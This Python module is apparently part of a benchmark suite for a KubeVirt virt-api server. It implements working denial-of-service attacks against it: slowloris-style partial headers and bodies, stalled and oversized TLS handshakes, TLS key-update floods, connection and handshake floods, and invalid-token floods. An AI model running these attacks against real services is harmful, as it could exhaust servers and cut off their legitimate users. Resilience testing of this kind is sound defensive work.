"""The attacks: ``python -m benchmarks.attacks.attackers NAME --port PORT --count N --seconds S``.

Attackers have no credentials. Each attack stops after its seconds, and prints as JSON how many connections it opened, and how many the
server did not close.
"""

from __future__ import annotations

import argparse
import asyncio
import itertools
import json
import ssl
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass, field
from typing import Final

import uvloop

from benchmarks.attacks.wire import Wire

MIB: Final = 1 << 20
_AT_ONCE: Final = 64
_GET: Final = b"GET %b HTTP/1.1\r\nHost: virt-api\r\n%b\r\n"
_HEAD: Final = b"GET /livez HTTP/1.1\r\nHost: virt-api\r\nX: "
_POST: Final = b"POST %b HTTP/1.1\r\nHost: virt-api\r\nContent-Type: application/json\r\nContent-Length: 3000000\r\n\r\n"
_MACHINES: Final = b"/apis/kubevirt.io/v1alpha1/namespaces/default/virtualmachines"
_LOSSES: Final = (ConnectionError, OSError, ssl.SSLError, asyncio.IncompleteReadError)


@dataclass
class Attack:
    """One run of an attack on virt-api, with its connections."""

    port: int
    count: int
    seconds: float
    addresses: int
    wires: list[Wire] = field(default_factory=list)
    made: int = 0
    failed: int = 0
    numbers: Iterator[int] = field(default_factory=itertools.count)

    def source(self, number: int) -> str:
        """Return the loopback address from which connection ``number`` comes; connections use ``addresses`` of them in turn."""
        place = number % self.addresses
        return f"127.1.{place // 250}.{place % 250 + 1}"

    async def connect(self, *, shaken: bool = True, reads: bool = True, room: int = 0) -> Wire:
        """Return a new connection as :meth:`Wire.connect`, after its TLS handshake if ``shaken``; count it in ``made``."""
        wire = await Wire.connect(self.port, self.source(next(self.numbers)), reads=reads, room=room)
        self.made += 1
        self.wires.append(wire)
        if shaken:
            await wire.shake()
        return wire

    async def each(self, work: Callable[[], Awaitable[None]]) -> None:
        """Run ``work`` ``count`` times, partly in parallel; ``failed`` counts connections that the server closed."""
        gate = asyncio.Semaphore(_AT_ONCE)

        async def one() -> None:
            async with gate:
                try:
                    await work()
                except _LOSSES:
                    self.failed += 1

        async with asyncio.TaskGroup() as tasks:
            for _ in range(self.count):
                tasks.create_task(one())

    async def again_and_again(self, work: Callable[[], Awaitable[None]]) -> None:
        """Repeat ``work`` in ``count`` tasks until cancelled; ``failed`` counts connections that the server closed."""

        async def one() -> None:
            while True:
                try:
                    await work()
                except _LOSSES:
                    self.failed += 1
                    await asyncio.sleep(0)

        async with asyncio.TaskGroup() as tasks:
            for _ in range(self.count):
                tasks.create_task(one())


async def silent(attack: Attack) -> None:
    async def work() -> None:
        await attack.connect(shaken=False)

    await attack.each(work)


async def half_handshakes(attack: Attack) -> None:
    async def work() -> None:
        wire = await attack.connect(shaken=False)
        hello = wire.hello()
        wire.send(hello[: len(hello) // 2])

    await attack.each(work)


async def unfinished_handshakes(attack: Attack) -> None:
    """Make the server sign a handshake on each connection, and never answer it."""

    async def work() -> None:
        wire = await attack.connect(shaken=False)
        wire.send(wire.hello())

    await attack.each(work)


async def large_hellos(attack: Attack) -> None:
    """Announce the longest first TLS message that OpenSSL accepts, and send all but its end."""
    length = 131_000
    body = b"\x01" + length.to_bytes(3, "big") + b"\x03\x03" + b"x" * (length - 100)
    records = b"".join(b"\x16\x03\x01" + len(part).to_bytes(2, "big") + part for part in _parts(body, 16_000))

    async def work() -> None:
        wire = await attack.connect(shaken=False)
        wire.send(records)
        await wire.writer.drain()

    await attack.each(work)


async def announced_hellos(attack: Attack) -> None:
    """Announce the longest first TLS message that OpenSSL accepts, and send little of it."""

    async def work() -> None:
        wire = await attack.connect(shaken=False)
        wire.send(b"\x16\x03\x01\x40\x00\x01" + (131_000).to_bytes(3, "big") + b"\x03\x03" + b"x" * 16_000)

    await attack.each(work)


async def half_heads(attack: Attack) -> None:
    """Send almost a megabyte of header fields without their end."""

    async def work() -> None:
        wire = await attack.connect()
        await wire.say(_HEAD)
        for _ in range(15):
            await wire.say(b"x" * (64 << 10))

    await attack.each(work)


async def slow_heads(attack: Attack) -> None:
    """Send a head of 16 KiB almost to its end, then single bytes slowly."""

    async def work() -> None:
        wire = await attack.connect()
        await wire.say(_HEAD + b"x" * (15 << 10))

    await attack.each(work)
    while True:
        for wire in attack.wires:
            if wire.is_open:
                try:
                    await wire.say(b"x")
                except _LOSSES:
                    continue
        await asyncio.sleep(1)


async def whole_heads(attack: Attack) -> None:
    """Send complete heads of a megabyte repeatedly."""
    head = _GET % (b"/livez", b"X: " + b"x" * (MIB - 200) + b"\r\n")

    async def work() -> None:
        wire = await attack.connect()
        await wire.say(head)
        while await wire.hear():
            await wire.say(head)

    await attack.again_and_again(work)


async def remembered_heads(attack: Attack) -> None:
    """Send heads of many different fields, to displace others from the server's cache of parsed heads."""

    async def work() -> None:
        wire = await attack.connect()
        while True:
            number = next(attack.numbers)
            fields = b"".join(b"%x:\r\n" % each for each in range(500)) + b"N: %d\r\n" % number
            await wire.say(_GET % (b"/livez", fields))
            if not await wire.hear():
                return

    await attack.again_and_again(work)


async def slow_bodies(attack: Attack) -> None:
    """Announce a body of three megabytes and send half of it."""

    async def work() -> None:
        wire = await attack.connect()
        await wire.say(_POST % _MACHINES)
        for _ in range(24):
            await wire.say(b"x" * (64 << 10))

    await attack.each(work)


async def unread_answers(attack: Attack) -> None:
    async def work() -> None:
        wire = await attack.connect(reads=False)
        await wire.say((_GET % (b"/livez?verbose", b"")) * 200)
        try:
            async with asyncio.timeout(1):
                for _ in range(100):
                    await wire.say((_GET % (b"/livez?verbose", b"")) * 200)
        except TimeoutError:
            pass  # neither side reads

    await attack.each(work)


async def key_updates(attack: Attack) -> None:
    """Make the server send new TLS keys repeatedly, without reading them."""

    async def work() -> None:
        wire = await attack.connect(reads=False, room=4096)
        while True:
            wire.send(wire.ask_for_keys(500))
            await wire.writer.drain()

    await attack.again_and_again(work)


async def handshake_flood(attack: Attack) -> None:
    async def work() -> None:
        wire = await Wire.connect(attack.port, attack.source(attack.made))
        attack.made += 1
        try:
            await wire.shake()
        finally:
            wire.abort()

    await attack.again_and_again(work)


async def hello_flood(attack: Attack) -> None:
    """Repeat one first TLS message on new connections: only the server computes."""
    hello = (await attack.connect(shaken=False)).hello()

    async def work() -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", attack.port, local_addr=(attack.source(attack.made), 0))
        attack.made += 1
        writer.write(hello)
        await reader.read(1)
        writer.transport.abort()

    await attack.again_and_again(work)


async def connection_flood(attack: Attack) -> None:
    async def work() -> None:
        _, writer = await asyncio.open_connection("127.0.0.1", attack.port, local_addr=(attack.source(attack.made), 0))
        attack.made += 1
        writer.transport.abort()

    await attack.again_and_again(work)


async def requests(attack: Attack) -> None:
    """Send requests at full speed, twenty at a time on each connection."""
    asked = (_GET % (b"/livez", b"")) * 20

    async def work() -> None:
        wire = await attack.connect()
        while True:
            await wire.say(asked)
            if not await wire.hear():
                return

    await attack.again_and_again(work)


async def bad_tokens(attack: Attack) -> None:
    """Send different invalid bearer tokens, so kube-apiserver reviews each."""

    async def work() -> None:
        wire = await attack.connect()
        while True:
            await wire.say(_GET % (_MACHINES, b"Authorization: Bearer x%d\r\n" % next(attack.numbers)))
            if not await wire.hear():
                return

    await attack.again_and_again(work)


def _parts(data: bytes, size: int) -> Iterator[bytes]:
    for start in range(0, len(data), size):
        yield data[start : start + size]


ATTACKS: Final[dict[str, Callable[[Attack], Awaitable[None]]]] = {
    each.__name__.replace("_", "-"): each
    for each in (
        silent, half_handshakes, unfinished_handshakes, large_hellos, announced_hellos, half_heads, slow_heads, whole_heads,
        remembered_heads, slow_bodies, unread_answers, key_updates, handshake_flood, hello_flood, connection_flood, requests, bad_tokens,
    )
}  # fmt: skip


async def run(name: str, attack: Attack) -> dict[str, int]:
    try:
        async with asyncio.timeout(attack.seconds):
            await ATTACKS[name](attack)
            await asyncio.Event().wait()
    except TimeoutError:
        pass
    return {"connections": attack.made, "failed": attack.failed, "open_at_end": sum(each.is_open for each in attack.wires)}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=sorted(ATTACKS))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--addresses", type=int, required=True, help="how many addresses the attackers have")
    given = parser.parse_args()
    found = uvloop.run(run(given.name, Attack(given.port, given.count, given.seconds, given.addresses)))
    print(json.dumps(found))


if __name__ == "__main__":
    main()
